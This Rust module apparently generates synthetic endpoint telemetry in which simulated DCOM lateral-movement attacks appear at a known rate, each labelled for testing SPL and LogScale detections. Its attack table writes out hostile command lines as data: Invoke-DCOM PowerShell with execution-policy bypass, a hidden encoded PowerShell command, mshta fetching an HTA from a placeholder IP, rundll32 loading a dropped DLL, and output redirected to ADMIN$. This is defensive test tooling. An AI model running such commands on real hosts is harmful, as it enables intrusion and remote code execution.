//! DCOM lateral movement among the everyday events: what the detections return, at a known rate.

use std::collections::VecDeque;
use std::sync::Arc;

use fastrand::Rng;

use super::Draft;
use super::chance::guid;
use super::world::{Launch, World, command_line};
use crate::action::{Action, Endpoint, Process};
use crate::catalogue::habits::Who;
use crate::catalogue::programs::*;

/// One way to be found, and the labels that the two detections give it.
struct Attack {
    spl: &'static str,
    logscale: &'static str,
    parent: &'static Program,
    /// How COM starts the parent; none if the parent is simply there.
    embedding: Option<&'static str>,
    child: &'static Program,
    command_lines: &'static [&'static str],
}

const CHILD: &str = "COM_SuspiciousChild";
const CONFIG: &str = "DCOM_ConfigTool";
const LINE: &str = "DCOM_CommandLineRef";
const OTHER: &str = "DCOM_Other";

const MMC_EMBEDDING: Option<&str> = Some(r"C:\Windows\system32\mmc.exe -Embedding");
const EXCEL_EMBEDDING: Option<&str> =
    Some(r#""C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE" /automation -Embedding"#);

const fn attack(
    (spl, logscale): (&'static str, &'static str),
    (parent, embedding): (&'static Program, Option<&'static str>),
    child: &'static Program,
    command_lines: &'static [&'static str],
) -> Attack {
    Attack { spl, logscale, parent, embedding, child, command_lines }
}

static ATTACKS: &[Attack] = &[
    attack(
        (CHILD, CHILD),
        (&MMC, MMC_EMBEDDING),
        &CMD,
        &[
            r#""C:\Windows\System32\cmd.exe" /Q /c cd \ 1> \\127.0.0.1\ADMIN$\__17165{n}.{n} 2>&1"#,
            r#""C:\Windows\System32\cmd.exe" /Q /c whoami 1> \\127.0.0.1\ADMIN$\__17165{n}.{n} 2>&1"#,
        ],
    ),
    attack(
        (CONFIG, CONFIG),
        (&EXPLORER, None),
        &DCOMCNFG,
        &[r#""C:\Windows\system32\dcomcnfg.exe" "#, r#""C:\Windows\system32\dcomcnfg.exe" -32"#],
    ),
    attack(
        (LINE, LINE),
        (&CMD, None),
        &POWERSHELL,
        &[
            r#"powershell.exe -Exec Bypass -Command "Import-Module .\Invoke-DCOM.ps1; Invoke-DCOM -ComputerName srv{digit}{digit} -Method MMC20.Application -Command 'calc'""#,
            r"powershell.exe -nop -ExecutionPolicy Bypass -File C:\Users\Public\Invoke-DCOMLateral-{hex}.ps1",
        ],
    ),
    // Office's names are in capitals, which the labels of the SPL detection do not expect.
    attack(
        (OTHER, CHILD),
        (&EXCEL, EXCEL_EMBEDDING),
        &CMD,
        &[r"cmd.exe /c C:\Users\Public\{hex}.bat", r"cmd.exe /c whoami /all > C:\Windows\Temp\{hex}.txt"],
    ),
    attack(
        (CHILD, CHILD),
        (&MMC, MMC_EMBEDDING),
        &POWERSHELL,
        &[
            r#""C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -nop -w hidden -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACkA"#,
        ],
    ),
    attack(
        (OTHER, LINE),
        (&CMD, None),
        &POWERSHELL,
        &[
            r"powershell.exe -nop -exec bypass -c . .\invoke-dcom.ps1; invoke-dcom -computername ws{n} -method shellwindows",
            r"powershell.exe -ExecutionPolicy Bypass -File \\10.20.{octet}.{octet}\c$\temp\dcom_{hex}.ps1",
        ],
    ),
    attack(
        (CHILD, CHILD),
        (&MMC, MMC_EMBEDDING),
        &RUNDLL32,
        &[r#""C:\Windows\System32\rundll32.exe" C:\Users\Public\{hex}.dll,Start"#],
    ),
    attack(
        (OTHER, CHILD),
        (&OUTLOOK, None),
        &WSCRIPT,
        &[r#""C:\Windows\System32\wscript.exe" "C:\Users\{user}\AppData\Local\Temp\{hex}.js""#],
    ),
    attack(
        (CHILD, CHILD),
        (&MMC, MMC_EMBEDDING),
        &MSHTA,
        &[r#""C:\Windows\System32\mshta.exe" http://10.20.{octet}.{octet}/{hex}.hta"#],
    ),
];

/// The most events that one attack makes up to and including the one that is found.
const LONGEST: u64 = 4;

/// When attacks take place: the stream is cut into stretches of equal length, and each holds one.
pub(super) struct Attacks {
    /// Length of a stretch in events; none if there are no attacks.
    stretch: Option<f64>,
    current: u64,
    due: u64,
    with_prelude: bool,
}

impl Attacks {
    pub fn new(rng: &mut Rng, rate: f64) -> Self {
        let stretch = (rate > 0.0).then(|| 1.0 / rate.min(1.0));
        let mut attacks = Self { stretch, current: 0, due: 0, with_prelude: false };
        attacks.schedule(rng);
        attacks
    }

    /// Whether the event with this index begins an attack.
    pub fn due(&self, index: u64) -> bool {
        self.stretch.is_some() && index == self.due
    }

    /// An attack, which ends with the event that is found.
    pub fn next(&mut self, world: &mut World, rng: &mut Rng, now: i64) -> VecDeque<Draft> {
        let with_prelude = self.with_prelude;
        self.current += 1;
        self.schedule(rng);

        let host = world.pick(rng);
        let attack = &ATTACKS[rng.usize(..ATTACKS.len())];
        let mut drafts = VecDeque::new();
        let parent = match attack.embedding {
            Some(command_line) => {
                let from = world.host(world.pick(rng)).endpoint(rng.u16(49_152..65_000));
                let launcher = world.host(host).dcom_launch();
                let launch = Launch { program: attack.parent, command_line: command_line.into(), who: Who::Admin };
                let parent = world.start(host, rng, launch, now);
                if with_prelude {
                    drafts = prelude(world, host, rng, from, &parent, launcher);
                }
                parent
            }
            None => world.find_or_start(host, rng, attack.parent, Who::Person, now),
        };
        let line = command_line(attack.command_lines, rng, world.host(host));
        let launch = Launch { program: attack.child, command_line: line, who: Who::Admin };
        let process = world.start(host, rng, launch, now);
        let mut found = Draft::new(host, Action::Start { process, parent });
        found.spl = Some(attack.spl);
        found.logscale = Some(attack.logscale);
        drafts.push_back(found);
        drafts
    }

    /// Chooses where in its stretch the next attack begins, so that its last event still falls into the stretch.
    fn schedule(&mut self, rng: &mut Rng) {
        let Some(stretch) = self.stretch else { return };
        let begin = (self.current as f64 * stretch) as u64;
        let end = ((self.current + 1) as f64 * stretch) as u64;
        let length = end.saturating_sub(begin).max(1);
        self.with_prelude = length >= LONGEST;
        self.due = begin + if self.with_prelude { rng.u64(..=length - LONGEST) } else { 0 };
    }
}

/// What the target sees before the command runs: a logon, a connection to its RPC service, the COM server's start.
fn prelude(
    world: &World,
    host: usize,
    rng: &mut Rng,
    from: Endpoint,
    server: &Arc<Process>,
    launcher: Arc<Process>,
) -> VecDeque<Draft> {
    let target = world.host(host);
    let logon = format!("{{{}}}", guid(rng));
    let account = Arc::clone(&server.account);
    let connect = Action::Connect {
        process: target.rpc_mapper(),
        initiated: false,
        source: from.clone(),
        destination: target.endpoint(135),
    };
    let actions = [
        connect,
        Action::Logon { account, logon_type: 3, from, guid: logon },
        Action::Start { process: Arc::clone(server), parent: launcher },
    ];
    actions.into_iter().map(|action| Draft::new(host, action)).collect()
}
